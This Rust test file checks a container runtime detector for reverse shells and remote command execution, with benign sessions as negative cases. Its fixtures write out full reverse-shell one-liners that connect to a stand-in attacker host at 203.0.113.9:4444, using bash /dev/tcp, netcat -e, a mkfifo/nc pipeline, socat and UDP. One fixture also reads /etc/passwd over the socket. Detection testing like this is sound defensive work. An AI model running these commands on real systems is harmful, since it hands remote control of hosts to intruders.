use crate::testing::{run, run_with, CID};
use ward_event::build::*;
use ward_event::{Category, Event, FdKind};

const RCE: Category = Category::PossibleRemoteCommandExecutionDetected;
const RS: Category = Category::ReverseShell;

fn in_c(b: ExecBuilder) -> ExecBuilder {
    b.container(CID, "web", "registry.example/web:1.4")
        .pod("shop", "web-7d9c")
}

fn sock() -> ward_event::FdInfo {
    tcp(4242, "10.0.0.5:51000", "203.0.113.9:4444")
}

/// The web server that gets exploited, and the shell it spawns.
fn web_server() -> Vec<Event> {
    vec![in_c(ExecBuilder::new(1, 100, 1, "/usr/sbin/nginx").stdio(0, fd(FdKind::Char, 1))).event()]
}

#[test]
fn bash_dev_tcp_reverse_shell() {
    let mut ev = web_server();
    ev.push(fork(2, 101, 100));
    ev.push(
        in_c(ExecBuilder::new(3, 101, 100, "/bin/bash").args(&[
            "bash",
            "-c",
            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        ]))
        .event(),
    );
    ev.push(fork(4, 102, 101));
    ev.push(in_c(ExecBuilder::new(5, 102, 101, "/bin/bash").args(&["bash", "-i"])).event());
    ev.push(dup(6, 102, 1, sock()));
    ev.push(dup(6, 102, 2, sock()));
    ev.push(dup(7, 102, 0, sock()));
    for (i, cmd) in [
        "/usr/bin/id",
        "/usr/bin/whoami",
        "/bin/uname",
        "/usr/bin/id",
    ]
    .iter()
    .enumerate()
    {
        let pid = 110 + i as u32;
        ev.push(fork(10 + i as u64, pid, 102));
        ev.push(
            in_c(
                ExecBuilder::new(11 + i as u64, pid, 102, cmd)
                    .stdio(0, sock())
                    .stdio(1, sock()),
            )
            .event(),
        );
    }
    let r = run(ev);
    assert_eq!(r.findings.len(), 2, "{:?}", r.categories());
    let rs = r.only(RS);
    assert_eq!(rs.severity, ward_event::finding::Severity::Critical);
    assert_eq!(rs.processes[0].pid, 102);
    assert_eq!(rs.processes[0].args, vec!["bash", "-i"]);
    assert_eq!(
        rs.processes.iter().map(|p| p.pid).collect::<Vec<_>>(),
        vec![102, 101, 100]
    );
    assert_eq!(
        rs.source_str("Binding"),
        Some("socket dup'ed onto stdio after exec")
    );
    let rce = r.only(RCE);
    assert_eq!(rce.severity, ward_event::finding::Severity::Medium);
    assert_eq!(rce.count(), 4);
    assert_eq!(rce.connections[0].destination_ip, "203.0.113.9");
    assert_eq!(rce.connections[0].destination_port, 4444);
    assert_eq!(rce.connections[0].source_port, 51000);
    assert_eq!(
        rce.indicator.as_ref().unwrap().ip_addresses,
        vec!["203.0.113.9"]
    );
    assert_eq!(rce.source_str("Container_Name"), Some("web"));
    assert_eq!(rce.source_str("Pod_Namespace"), Some("shop"));
    assert_eq!(rce.source_str("Pod_Name"), Some("web-7d9c"));
    assert_eq!(
        rce.source_str("Container_Image_Uri"),
        Some("registry.example/web:1.4")
    );
    assert_eq!(rce.source_str("VM_Instance_Name"), Some("node-1"));
    let cmds = rce.source_properties["Commands"].as_array().unwrap();
    assert_eq!(cmds.len(), 3, "distinct commands: {cmds:?}");
    assert!(rce.event_time > rce.create_time);
    assert_eq!(rce.processes[0].name, "id");
    assert_eq!(rce.processes[1].pid, 102, "parent chain follows");
}

#[test]
fn netcat_e_and_busybox_nc_e() {
    for (path, binary, argv) in [
        (
            "/bin/nc.traditional",
            "/bin/nc.traditional",
            vec!["nc", "203.0.113.9", "4444", "-e", "/bin/sh"],
        ),
        (
            "/bin/nc",
            "/bin/busybox",
            vec!["nc", "203.0.113.9", "4444", "-e", "/bin/sh"],
        ),
    ] {
        let mut ev = web_server();
        ev.push(fork(2, 101, 100));
        ev.push(
            in_c(
                ExecBuilder::new(3, 101, 100, path)
                    .binary_path(binary)
                    .args(&argv),
            )
            .event(),
        );
        ev.push(connect(4, 101, 4242, "10.0.0.5:51000", "203.0.113.9:4444"));
        // nc -e execs the shell in place (or in a child) with the socket on 0-2.
        ev.push(
            in_c(
                ExecBuilder::new(5, 101, 100, "/bin/sh")
                    .stdio(0, sock())
                    .stdio(1, sock())
                    .stdio(2, sock()),
            )
            .event(),
        );
        ev.push(fork(6, 102, 101));
        ev.push(
            in_c(
                ExecBuilder::new(7, 102, 101, "/bin/cat")
                    .args(&["cat", "/etc/passwd"])
                    .stdio(0, sock())
                    .stdio(1, sock()),
            )
            .event(),
        );
        let r = run(ev);
        assert_eq!(r.findings.len(), 2, "{path}: {:?}", r.categories());
        assert_eq!(r.only(RS).processes[0].name, "sh");
        assert_eq!(r.only(RCE).count(), 2, "sh and cat");
    }
}

#[test]
fn python_dup2_subprocess_and_pty_spawn() {
    for use_pty in [false, true] {
        let mut ev = web_server();
        ev.push(fork(2, 101, 100));
        ev.push(
            in_c(
                ExecBuilder::new(3, 101, 100, "/usr/bin/python3")
                    .binary_path("/usr/bin/python3.11")
                    .args(&["python3", "-c", "import socket,os,pty;..."]),
            )
            .event(),
        );
        ev.push(connect(4, 101, 4242, "10.0.0.5:51000", "203.0.113.9:4444"));
        for fdn in 0..3 {
            ev.push(dup(5, 101, fdn, sock()));
        }
        ev.push(fork(6, 102, 101));
        let shell = if use_pty {
            for fdn in 0..3 {
                ev.push(dup(7, 102, fdn, fd(FdKind::Tty, 77)));
            }
            in_c(ExecBuilder::new(8, 102, 101, "/bin/sh"))
        } else {
            in_c(
                ExecBuilder::new(8, 102, 101, "/bin/sh")
                    .args(&["/bin/sh", "-i"])
                    .stdio(0, sock())
                    .stdio(1, sock()),
            )
        };
        ev.push(shell.event());
        let r = run(ev);
        let rs = r.only(RS);
        assert_eq!(
            rs.source_str("Socket_Holder_Program"),
            Some("python3"),
            "pty={use_pty}"
        );
        assert_eq!(rs.processes[1].name, "python3");
        r.only(RCE);
    }
}

#[test]
fn perl_open_stdin_dup() {
    let mut ev = web_server();
    ev.push(fork(2, 101, 100));
    ev.push(
        in_c(ExecBuilder::new(3, 101, 100, "/usr/bin/perl").args(&[
            "perl",
            "-e",
            "use Socket;...open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");",
        ]))
        .event(),
    );
    ev.push(dup(4, 101, 0, sock()));
    ev.push(dup(4, 101, 1, sock()));
    ev.push(
        in_c(
            ExecBuilder::new(5, 101, 100, "/bin/sh")
                .args(&["/bin/sh", "-i"])
                .stdio(0, sock())
                .stdio(1, sock()),
        )
        .event(),
    );
    let r = run(ev);
    assert_eq!(r.only(RS).source_str("Socket_Holder_Program"), Some("perl"));
    r.only(RCE);
}

#[test]
fn socat_exec_pty() {
    let mut ev = web_server();
    ev.push(fork(2, 101, 100));
    ev.push(
        in_c(ExecBuilder::new(3, 101, 100, "/usr/bin/socat").args(&[
            "socat",
            "exec:bash -li,pty,stderr,setsid,sigint,sane",
            "tcp:203.0.113.9:4444",
        ]))
        .event(),
    );
    ev.push(fork(4, 102, 101));
    ev.push(
        in_c(
            ExecBuilder::new(5, 102, 101, "/bin/bash")
                .args(&["bash", "-li"])
                .stdio(0, fd(FdKind::Tty, 5)),
        )
        .event(),
    );
    ev.push(connect(6, 101, 4242, "10.0.0.5:51000", "203.0.113.9:4444"));
    ev.push(fork(7, 103, 102));
    ev.push(
        in_c(ExecBuilder::new(8, 103, 102, "/usr/bin/id").stdio(0, fd(FdKind::Tty, 5))).event(),
    );
    let r = run(ev);
    let rs = r.only(RS);
    assert_eq!(rs.processes[0].name, "bash");
    assert_eq!(
        rs.source_str("Binding"),
        Some("descendant of a network relay")
    );
    assert_eq!(
        rs.event_time,
        ward_event::time::format_rfc3339(6),
        "reported when socat connects"
    );
    assert_eq!(r.only(RCE).processes[0].name, "id");
}

/// `rm /tmp/f; mkfifo /tmp/f; cat < /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f`
/// (cat's stdin is the FIFO; the canonical form, where cat opens it by name, is covered by the
/// process table's pipe-loop tests and the `rce-mkfifo-nc` example trace).
#[test]
fn mkfifo_netcat_pipeline() {
    let (fifo, p1, p2) = (900, 901, 902);
    let mut ev = web_server();
    ev.push(fork(2, 101, 100));
    ev.push(
        in_c(ExecBuilder::new(3, 101, 100, "/bin/sh").args(&[
            "sh",
            "-c",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
        ]))
        .event(),
    );
    ev.push(fork(4, 102, 101));
    ev.push(
        in_c(ExecBuilder::new(5, 102, 101, "/usr/bin/mkfifo").args(&["mkfifo", "/tmp/f"])).event(),
    );
    for pid in [103, 104, 105] {
        ev.push(fork(6, pid, 101));
    }
    ev.push(
        in_c(
            ExecBuilder::new(7, 103, 101, "/bin/cat")
                .args(&["cat", "/tmp/f"])
                .stdio(0, fd(FdKind::Fifo, fifo))
                .stdio(1, fd(FdKind::Pipe, p1)),
        )
        .event(),
    );
    ev.push(
        in_c(
            ExecBuilder::new(7, 104, 101, "/bin/sh")
                .args(&["/bin/sh", "-i"])
                .stdio(0, fd(FdKind::Pipe, p1))
                .stdio(1, fd(FdKind::Pipe, p2))
                .stdio(2, fd(FdKind::Pipe, p2)),
        )
        .event(),
    );
    ev.push(
        in_c(
            ExecBuilder::new(7, 105, 101, "/bin/nc")
                .binary_path("/bin/nc.openbsd")
                .args(&["nc", "203.0.113.9", "4444"])
                .stdio(0, fd(FdKind::Pipe, p2))
                .stdio(1, fd(FdKind::Fifo, fifo)),
        )
        .event(),
    );
    ev.push(connect(8, 105, 4242, "10.0.0.5:51000", "203.0.113.9:4444"));
    ev.push(fork(9, 106, 104));
    ev.push(
        in_c(
            ExecBuilder::new(10, 106, 104, "/usr/bin/id")
                .stdio(0, fd(FdKind::Pipe, p1))
                .stdio(1, fd(FdKind::Pipe, p2)),
        )
        .event(),
    );
    let r = run(ev);
    let rs = r.only(RS);
    assert_eq!(rs.processes[0].pid, 104);
    assert_eq!(
        rs.source_str("Binding"),
        Some("stdin piped from a network relay")
    );
    assert_eq!(rs.source_str("Socket_Holder_Program"), Some("nc"));
    let rce = r.only(RCE);
    assert_eq!(
        rce.processes[0].name, "id",
        "cat only shuttles data and is not reported"
    );
    assert_eq!(rce.count(), 1);
}

#[test]
fn benign_sessions_are_quiet() {
    let mut ev = Vec::with_capacity(16);
    // Interactive pty session (kubectl exec -it / ssh with a pty).
    ev.push(in_c(ExecBuilder::new(1, 200, 1, "/bin/bash").args(&["bash", "-l"])).event());
    ev.push(fork(2, 201, 200));
    ev.push(in_c(ExecBuilder::new(3, 201, 200, "/usr/bin/id")).event());
    // Local pipeline: ps | grep.
    ev.push(in_c(ExecBuilder::new(4, 202, 200, "/bin/ps").stdio(1, fd(FdKind::Pipe, 50))).event());
    ev.push(
        in_c(ExecBuilder::new(4, 203, 200, "/bin/grep").stdio(0, fd(FdKind::Pipe, 50))).event(),
    );
    // ssh without a pty: the command's stdio is an AF_UNIX socketpair.
    ev.push(
        ExecBuilder::new(5, 300, 1, "/bin/sh")
            .args(&["sh", "-c", "uptime"])
            .stdio(0, fd(FdKind::UnixSocket, 60))
            .stdio(1, fd(FdKind::UnixSocket, 61))
            .event(),
    );
    ev.push(fork(6, 301, 300));
    ev.push(
        ExecBuilder::new(7, 301, 300, "/usr/bin/uptime")
            .stdio(0, fd(FdKind::UnixSocket, 60))
            .event(),
    );
    // An inetd-style service (sshd -i) whose stdio is the accepted TCP socket.
    let s = tcp(70, "10.0.0.5:22", "198.51.100.7:60000");
    ev.push(
        ExecBuilder::new(8, 400, 1, "/usr/sbin/sshd")
            .args(&["sshd", "-i"])
            .stdio(0, s.clone())
            .stdio(1, s.clone())
            .event(),
    );
    ev.push(fork(9, 401, 400));
    ev.push(
        ExecBuilder::new(10, 401, 400, "/bin/bash")
            .stdio(0, s.clone())
            .stdio(1, s)
            .event(),
    );
    // openssl s_client piped into grep: network data read, nothing executed.
    ev.push(
        in_c(
            ExecBuilder::new(11, 500, 200, "/usr/bin/openssl")
                .args(&["openssl", "s_client", "-connect", "example.com:443"])
                .stdio(1, fd(FdKind::Pipe, 80)),
        )
        .event(),
    );
    ev.push(connect(12, 500, 81, "10.0.0.5:40000", "93.184.215.14:443"));
    ev.push(
        in_c(
            ExecBuilder::new(13, 501, 200, "/bin/grep")
                .args(&["grep", "subject"])
                .stdio(0, fd(FdKind::Pipe, 80)),
        )
        .event(),
    );
    // An unconnected UDP socket on stdin (an inetd `dgram wait` service): no peer.
    let mut udp = tcp(90, "10.0.0.5:5353", "0.0.0.0:0");
    udp.socket.as_mut().unwrap().protocol = ward_event::Protocol::Udp;
    ev.push(in_c(ExecBuilder::new(14, 600, 200, "/bin/sh").stdio(0, udp)).event());
    let r = run(ev);
    assert!(r.findings.is_empty(), "{:?}", r.categories());
}

#[test]
fn allowlisted_images_and_disabled_detectors() {
    let ev = || vec![in_c(ExecBuilder::new(1, 100, 1, "/bin/sh").stdio(0, sock())).event()];
    let r = run(ev());
    assert_eq!(r.findings.len(), 2);
    let mut cfg = crate::DetectorsConfig::default();
    cfg.remote_command_execution.allow_images = vec!["registry.example/*".into()];
    let r = run_with(&cfg, Default::default(), None, ev());
    assert!(r.findings.is_empty());
    let mut cfg = crate::DetectorsConfig::default();
    cfg.reverse_shell.enabled = false;
    let r = run_with(&cfg, Default::default(), None, ev());
    assert_eq!(r.categories(), vec![RCE.display_name()]);
}

#[test]
fn ipv6_peer_is_reported() {
    let s6 = tcp(7, "[fd00::5]:51000", "[2001:db8::9]:4444");
    let r = run(vec![in_c(
        ExecBuilder::new(1, 100, 1, "/bin/bash")
            .stdio(0, s6.clone())
            .stdio(1, s6),
    )
    .event()]);
    let f = r.only(RS);
    assert_eq!(f.connections[0].destination_ip, "2001:db8::9");
    assert_eq!(f.source_str("Remote_Peer"), Some("[2001:db8::9]:4444"));
}

/// `bash -c 'exec 3<>/dev/tcp/H/P; printf "GET /health HTTP/1.0\r\n\r\n" >&3; cat <&3 >OUT'`
/// with OUT = /dev/null (a health check) or a file (a download), `cat` exec'd in place (last
/// command) or forked (not last); plus `read l <&3` and `echo ... >&3` builtins.
fn dev_tcp_transfer(out: ward_event::FdInfo, forked: bool) -> Vec<Event> {
    let mut ev = web_server();
    let pipe = fd(FdKind::Pipe, 600);
    let hc = tcp(4343, "10.0.0.5:52000", "10.0.0.7:8080");
    ev.push(fork(2, 101, 100));
    ev.push(
        in_c(
            ExecBuilder::new(3, 101, 100, "/bin/bash")
                .args(&["bash", "-c", "exec 3<>/dev/tcp/10.0.0.7/8080; ..."])
                .stdio(0, fd(FdKind::Char, 5))
                .stdio(1, pipe.clone()),
        )
        .event(),
    );
    ev.push(connect(4, 101, 4343, "10.0.0.5:52000", "10.0.0.7:8080"));
    // printf ... >&3 and echo ... >&3: fd 1 is the socket for the builtin, then restored.
    for t in [5, 7] {
        ev.push(dup(t, 101, 1, hc.clone()));
        ev.push(dup(t + 1, 101, 1, pipe.clone()));
    }
    // read -r status <&3
    ev.push(dup(9, 101, 0, hc.clone()));
    ev.push(dup(10, 101, 0, fd(FdKind::Char, 5)));
    let pid = if forked {
        ev.push(fork(11, 102, 101));
        102
    } else {
        101
    };
    ev.push(dup(12, pid, 0, hc.clone()));
    ev.push(dup(13, pid, 1, out.clone()));
    ev.push(
        in_c(
            ExecBuilder::new(14, pid, 101, "/usr/bin/cat")
                .stdio(0, hc)
                .stdio(1, out),
        )
        .event(),
    );
    ev
}

#[test]
fn dev_tcp_health_checks_and_downloads_are_not_reported() {
    for forked in [false, true] {
        for out in [
            fd(FdKind::Char, 5),
            ward_event::FdInfo {
                path: Some("/tmp/file".into()),
                ..fd(FdKind::File, 900)
            },
        ] {
            let r = run(dev_tcp_transfer(out.clone(), forked));
            assert!(
                r.findings.is_empty(),
                "forked={forked} out={out:?}: {:?}",
                r.categories()
            );
        }
    }
}

#[test]
fn a_transfer_into_a_shell_is_a_reverse_shell() {
    // bash -c 'exec 3<>/dev/tcp/H/P; cat <&3 | sh': cat is a transfer, sh reads the peer.
    let mut ev = web_server();
    let p = fd(FdKind::Pipe, 700);
    ev.push(in_c(ExecBuilder::new(2, 101, 100, "/bin/bash").args(&["bash", "-c", "..."])).event());
    ev.push(connect(3, 101, 4242, "10.0.0.5:51000", "203.0.113.9:4444"));
    ev.push(fork(4, 102, 101));
    ev.push(fork(4, 103, 101));
    ev.push(
        in_c(
            ExecBuilder::new(5, 103, 101, "/bin/sh")
                .args(&["sh"])
                .stdio(0, p.clone()),
        )
        .event(),
    );
    ev.push(dup(6, 102, 1, p.clone()));
    ev.push(dup(7, 102, 0, sock()));
    ev.push(
        in_c(
            ExecBuilder::new(8, 102, 101, "/usr/bin/cat")
                .stdio(0, sock())
                .stdio(1, p),
        )
        .event(),
    );
    let r = run(ev);
    assert_eq!(r.categories(), vec![RS.display_name()]);
    let rs = r.only(RS);
    assert_eq!(rs.processes[0].pid, 103);
    assert_eq!(
        rs.source_str("Binding"),
        Some("stdin piped from a network relay")
    );
}

#[test]
fn a_blind_shell_reading_the_socket_is_a_reverse_shell() {
    // sh <&3 >/dev/null 2>&1
    let mut ev = web_server();
    ev.push(
        in_c(
            ExecBuilder::new(2, 101, 100, "/bin/sh")
                .args(&["sh"])
                .stdio(0, sock())
                .stdio(1, fd(FdKind::Char, 5))
                .stdio(2, fd(FdKind::Char, 5)),
        )
        .event(),
    );
    ev.push(fork(3, 102, 101));
    ev.push(
        in_c(
            ExecBuilder::new(4, 102, 101, "/usr/bin/id")
                .stdio(0, sock())
                .stdio(1, fd(FdKind::Char, 5)),
        )
        .event(),
    );
    let r = run(ev);
    r.only(RS);
    // What it runs is remote command execution, whatever its own stdout.
    assert_eq!(r.only(RCE).count(), 2);
}

#[test]
fn udp_reverse_shell() {
    // bash -c 'sh -i >& /dev/udp/203.0.113.9/4444 0>&1'
    let u = udp(4444, "10.0.0.5:51000", "203.0.113.9:4444");
    let mut ev = web_server();
    ev.push(in_c(ExecBuilder::new(2, 101, 100, "/bin/bash").args(&["bash", "-c", "..."])).event());
    ev.push(dup(3, 101, 1, u.clone()));
    ev.push(dup(3, 101, 2, u.clone()));
    ev.push(dup(3, 101, 0, u.clone()));
    ev.push(
        in_c(
            ExecBuilder::new(4, 101, 100, "/bin/sh")
                .binary_path("/usr/bin/dash")
                .args(&["sh", "-i"])
                .stdio(0, u.clone())
                .stdio(1, u.clone())
                .stdio(2, u.clone()),
        )
        .event(),
    );
    ev.push(fork(5, 102, 101));
    ev.push(
        in_c(
            ExecBuilder::new(6, 102, 101, "/usr/bin/id")
                .stdio(0, u.clone())
                .stdio(1, u),
        )
        .event(),
    );
    let r = run(ev);
    let rs = r.only(RS);
    assert_eq!(rs.processes[0].args, vec!["sh", "-i"]);
    assert_eq!(rs.connections[0].destination_port, 4444);
    assert_eq!(rs.connections[0].protocol, "UDP");
    r.only(RCE);
}

/// python `Popen(["/bin/sh"], stdin=PIPE, stdout=PIPE)` + pump thread (connect first), node
/// `spawn("/bin/sh")` then `connect` + `client.pipe(sh.stdin)`, java `Runtime.exec` then
/// `new Socket` with stream pumps (shell first).
#[test]
fn interpreter_relays_by_behaviour() {
    for (relay, path, binary, connect_first) in [
        ("python3", "/usr/bin/python3", "/usr/bin/python3.11", true),
        ("node", "/usr/bin/node", "/usr/bin/node", false),
        (
            "java",
            "/usr/bin/java",
            "/usr/lib/jvm/java-17/bin/java",
            false,
        ),
        ("my-go-agent", "/app/my-go-agent", "/app/my-go-agent", true),
    ] {
        let mut ev = web_server();
        ev.push(fork(2, 101, 100));
        ev.push(
            in_c(
                ExecBuilder::new(3, 101, 100, path)
                    .binary_path(binary)
                    .args(&[relay, "x"]),
            )
            .event(),
        );
        if connect_first {
            ev.push(connect(4, 101, 4242, "10.0.0.5:51000", "203.0.113.9:4444"));
        }
        ev.push(fork(5, 102, 101));
        ev.push(
            in_c(
                ExecBuilder::new(6, 102, 101, "/bin/sh")
                    .args(&["/bin/sh"])
                    .stdio(0, fd(FdKind::Pipe, 801))
                    .stdio(1, fd(FdKind::Pipe, 802))
                    .stdio(2, fd(FdKind::Pipe, 802))
                    .stdin_writer(101),
            )
            .event(),
        );
        if !connect_first {
            ev.push(connect(7, 101, 4242, "10.0.0.5:51000", "203.0.113.9:4444"));
        }
        ev.push(fork(8, 103, 102));
        ev.push(
            in_c(
                ExecBuilder::new(9, 103, 102, "/usr/bin/id")
                    .stdio(0, fd(FdKind::Pipe, 801))
                    .stdio(1, fd(FdKind::Pipe, 802)),
            )
            .event(),
        );
        let r = run(ev);
        let rs = r.only(RS);
        assert_eq!(rs.processes[0].pid, 102, "{relay}");
        assert_eq!(rs.source_str("Socket_Holder_Program"), Some(relay));
        assert_eq!(
            rs.source_str("Binding"),
            Some("stdin pipe written by a process holding a remote connection")
        );
        assert_eq!(rs.connections[0].destination_port, 4444);
        // `id` in the session.
        let rce = r.only(RCE);
        assert!(rce.count() >= 1, "{relay}");
    }
}

#[test]
fn a_server_running_sh_c_on_pipes_is_not_a_relay() {
    // node `child_process.exec("ls /tmp")` from a server holding a client connection.
    let mut ev = web_server();
    ev.push(
        in_c(ExecBuilder::new(2, 101, 100, "/usr/bin/node").args(&["node", "server.js"])).event(),
    );
    ev.push(connect(3, 101, 4242, "10.0.0.5:51000", "203.0.113.9:443"));
    ev.push(fork(4, 102, 101));
    ev.push(
        in_c(
            ExecBuilder::new(5, 102, 101, "/bin/sh")
                .args(&["/bin/sh", "-c", "ls /tmp"])
                .stdio(0, fd(FdKind::Pipe, 801))
                .stdio(1, fd(FdKind::Pipe, 802))
                .stdin_writer(101),
        )
        .event(),
    );
    ev.push(fork(6, 103, 102));
    ev.push(in_c(ExecBuilder::new(7, 103, 102, "/bin/ls").stdio(0, fd(FdKind::Pipe, 801))).event());
    let r = run(ev);
    assert!(r.findings.is_empty(), "{:?}", r.categories());
}

/// `bash -c 'exec 3<>/dev/tcp/H/P; exec 1>&3; date; uname -a'`: a script that sends its output
/// to a collector. The peer cannot send it anything to run: no stdin, no finding.
#[test]
fn a_shell_whose_stdout_only_is_the_socket_is_not_bound() {
    let mut ev = web_server();
    let out = tcp(4545, "10.0.0.5:53000", "10.0.0.8:5000");
    ev.push(
        in_c(
            ExecBuilder::new(2, 101, 100, "/bin/bash")
                .args(&[
                    "bash",
                    "-c",
                    "exec 3<>/dev/tcp/10.0.0.8/5000; exec 1>&3; date; uname -a",
                ])
                .stdio(0, fd(FdKind::Char, 5)),
        )
        .event(),
    );
    ev.push(connect(3, 101, 4545, "10.0.0.5:53000", "10.0.0.8:5000"));
    ev.push(dup(4, 101, 1, out.clone()));
    for (i, cmd) in ["/usr/bin/date", "/usr/bin/uname"].iter().enumerate() {
        let pid = 102 + i as u32;
        ev.push(fork(5 + i as u64, pid, 101));
        ev.push(
            in_c(
                ExecBuilder::new(6 + i as u64, pid, 101, cmd)
                    .stdio(0, fd(FdKind::Char, 5))
                    .stdio(1, out.clone()),
            )
            .event(),
        );
    }
    let r = run(ev);
    assert!(r.findings.is_empty(), "{:?}", r.categories());
}
